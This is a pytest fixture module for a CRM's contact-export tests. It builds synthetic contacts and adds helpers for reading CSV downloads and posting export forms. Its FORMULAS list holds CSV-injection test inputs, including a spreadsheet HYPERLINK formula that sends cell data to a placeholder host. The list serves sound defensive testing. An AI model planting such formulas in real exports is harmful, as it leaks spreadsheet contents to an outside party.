"""A small network of contacts for the export tests, and helpers that read downloaded files."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass

import pytest
from werkzeug.datastructures import MultiDict

from crm.contacts.services import add_affiliation
from crm.models import Contact, Organisation, Tag

# Names that a spreadsheet would run as formulas (OWASP CSV injection, ASVS 5.0 1.2.10).
FORMULAS = ['=HYPERLINK("http://x?"&A1)', "+1", "-2+3", "@SUM(A1)", "\tX", "\rX"]


@dataclass
class Network:
    """Eight contacts: KZ, KG, TH; one do-not-contact, two without consent; tags and an organisation."""

    aigerim: Contact
    bolat: Contact
    nurlan: Contact
    somchai: Contact
    dnc: Contact
    unconsented: Contact
    unconsented_th: Contact
    secret: Contact
    legal: Tag
    ngo: Organisation

    @property
    def everyone(self) -> list[Contact]:
        return [
            self.aigerim,
            self.bolat,
            self.nurlan,
            self.somchai,
            self.dnc,
            self.unconsented,
            self.unconsented_th,
            self.secret,
        ]


@pytest.fixture
def network(db, staff, make_contact, make_tag, make_organisation) -> Network:
    legal = make_tag("legal aid")
    ngo = make_organisation(name="Бишкекский правовой центр", country_code="KG")

    def person(name, email, country, consent=True, dnc=False, tags=None, **extra):
        return make_contact(
            full_name=name,
            email=email,
            country_code=country,
            consent_to_contact=consent,
            do_not_contact=dnc,
            tags=tags,
            **extra,
        )

    aigerim = person("Айгерим Нургалиева", "aigerim@example.kz", "KZ", tags=[legal], phone="+7 701 000 0001")
    bolat = person("Bolat Seitkali", "bolat@example.kz", "KZ")
    nurlan = person("Нурлан Абдыкеримов", "nurlan@example.kg", "KG", tags=[legal])
    somchai = person("Somchai Prasert", "somchai@example.th", "TH")
    dnc = person("Дина Омарова", "dina@example.kz", "KZ", dnc=True, tags=[legal])
    unconsented = person("Ерлан Садыков", "erlan@example.kz", "KZ", consent=False)
    unconsented_th = person("Malee Chaiyo", "malee@example.th", "TH", consent=False)
    secret = person(
        "Гулшан Юсупова",
        "gulshan@example.tj",
        "TJ",
        lived_experience=True,
        sensitive_notes="Stateless until 2019",
    )
    add_affiliation(nurlan, ngo, "Юрист", actor=staff)
    add_affiliation(bolat, ngo, "", actor=staff)
    db.session.flush()
    return Network(aigerim, bolat, nurlan, somchai, dnc, unconsented, unconsented_th, secret, legal, ngo)


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 BOM for Excel"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def list_total(client, url: str) -> int:
    """The total a list page shows ("Showing 1–10 of 5,000"), 0 when it shows none."""
    found = re.search(r"of (\d[\d,]*)", client.get(url).get_data(as_text=True))
    return int(found.group(1).replace(",", "")) if found else 0


def download(client, url: str, **fields):
    """POST an export form; returns the response with its body read (and the request finished)."""
    data = MultiDict()
    for name, value in fields.items():
        for item in value if isinstance(value, list | tuple) else [value]:
            data.add(name, item)
    response = client.post(url, data=data)
    body = response.get_data()
    response.close()
    return response, body
